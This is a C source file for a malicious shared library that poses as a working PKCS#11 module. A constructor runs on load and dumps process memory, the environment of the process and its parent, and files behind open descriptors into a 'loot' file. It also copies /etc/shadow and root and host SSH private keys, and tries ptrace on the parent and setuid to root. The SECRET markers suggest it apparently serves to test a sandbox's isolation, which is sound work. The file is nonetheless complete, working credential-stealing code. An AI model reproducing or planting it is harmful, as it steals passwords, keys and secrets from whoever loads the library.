/*
 * A PKCS#11 library that steals: it is honest in its answers, and as soon as it is loaded it puts all that it can get at
 * into a file of its user's: its process's memory, whatever its descriptors hold, and root's files, from whatever directory
 * it finds open and as whoever it can become.  Built with -DROOT='"..."', the tree.
 */
#include "honest.h"

#include <fcntl.h>
#include <link.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <unistd.h>

static char block[1 << 16];

static void copy(int loot, int fd)
{
	for (off_t at = 0; at < (off_t)sizeof(block) * 16;) {
		const ssize_t got = pread(fd, block, sizeof(block), at);
		if (got <= 0 || write(loot, block, (size_t)got) != got)
			return;
		at += got;
	}
}

/* As write(2) has it: it stops at the first page that is not there. */
static void pages_copy(int loot, const char *from)
{
	for (size_t i = 0; i < sizeof(block); i++)
		if (write(loot, from + i * 4096, 4096) != 4096)
			return;
}

static int segments_copy(struct dl_phdr_info *object, size_t size, void *loot)
{
	(void)size;
	for (int i = 0; i < object->dlpi_phnum; i++) {
		const ElfW(Phdr) *segment = &object->dlpi_phdr[i];
		if (segment->p_type == PT_LOAD && (segment->p_flags & PF_W) != 0)
			(void)!write(*(int *)loot, (const char *)object->dlpi_addr + segment->p_vaddr,
				     segment->p_memsz);
	}
	return 1;
}

/* The stack with what the process was started with, the data of the program, the heap. */
static void memory_copy(int loot)
{
	const char here = 0;
	const char *stack = &here - (uintptr_t)&here % 4096, *heap = sbrk(0);

	pages_copy(loot, stack);
	/* The first is the program; the others are libraries, this one with the names of what it looks for. */
	(void)dl_iterate_phdr(segments_copy, &loot);
	for (size_t back = 1; back <= 256 && write(loot, heap - back * 4096, 4096) == 4096; back++) {
	}
}

static void path_copy(int loot, const char *path)
{
	const int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);

	if (fd >= 0)
		copy(loot, fd);
}

__attribute__((constructor)) static void steal(void)
{
	static const char *const victims[] = { "/etc/shadow", "/root/.ssh/id_ed25519",
					       "/etc/ssh/ssh_host_ed25519_key" };
	char path[512];
	/* The tree may be the root of what loads it. */
	int loot = open(ROOT "/home/oracle/loot", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);

	if (loot < 0)
		loot = open("/home/oracle/loot", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0666);
	if (loot < 0)
		return;
	(void)!write(loot, "loaded\n", 7);
	path_copy(loot, "/proc/self/environ");
	memory_copy(loot);
	(void)snprintf(path, sizeof(path), "/proc/%ld/environ", (long)getppid());
	path_copy(loot, path);
	for (int fd = 0; fd < 256; fd++) {
		struct stat status;
		if (fd != loot && fstat(fd, &status) == 0 && S_ISREG(status.st_mode))
			copy(loot, fd);
		/* A directory of root's is a way around the permissions above it. */
		for (size_t i = 0; i < sizeof(victims) / sizeof(victims[0]); i++) {
			const int victim = openat(fd, victims[i] + 1, O_RDONLY | O_CLOEXEC);
			if (victim >= 0)
				copy(loot, victim);
		}
	}
	if (ptrace(PTRACE_ATTACH, getppid(), NULL, NULL) == 0)
		(void)!write(loot, "SECRET-parent\n", 14);
	if (kill(getppid(), 0) == 0)
		(void)!write(loot, "SECRET-signal\n", 14);
	if (setuid(0) == 0 || seteuid(0) == 0)
		(void)!write(loot, "SECRET-root\n", 12);
	for (size_t i = 0; i < sizeof(victims) / sizeof(victims[0]); i++) {
		path_copy(loot, victims[i]);
		if (snprintf(path, sizeof(path), "%s%s", ROOT, victims[i]) > 0)
			path_copy(loot, path);
	}
}
